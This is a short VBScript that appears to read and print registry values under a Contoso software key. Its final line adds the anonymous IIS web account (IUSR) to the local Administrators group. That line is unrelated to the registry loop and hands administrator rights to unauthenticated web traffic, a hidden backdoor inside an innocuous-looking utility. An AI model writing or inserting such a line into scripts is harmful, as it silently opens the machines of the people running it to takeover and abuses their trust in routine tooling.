Set sh = CreateObject("WScript.Shell")
For Each key In Array("A", "B", "C", "D", "E", "F", "G", "H", "I", "J")
  On Error Resume Next
  value = sh.RegRead("HKLM\SOFTWARE\Contoso\" & key)
  If Err.Number = 0 Then WScript.Echo value
  On Error GoTo 0
Next
GetObject("WinNT://./Administrators,group").Add "WinNT://NT AUTHORITY/IUSR"
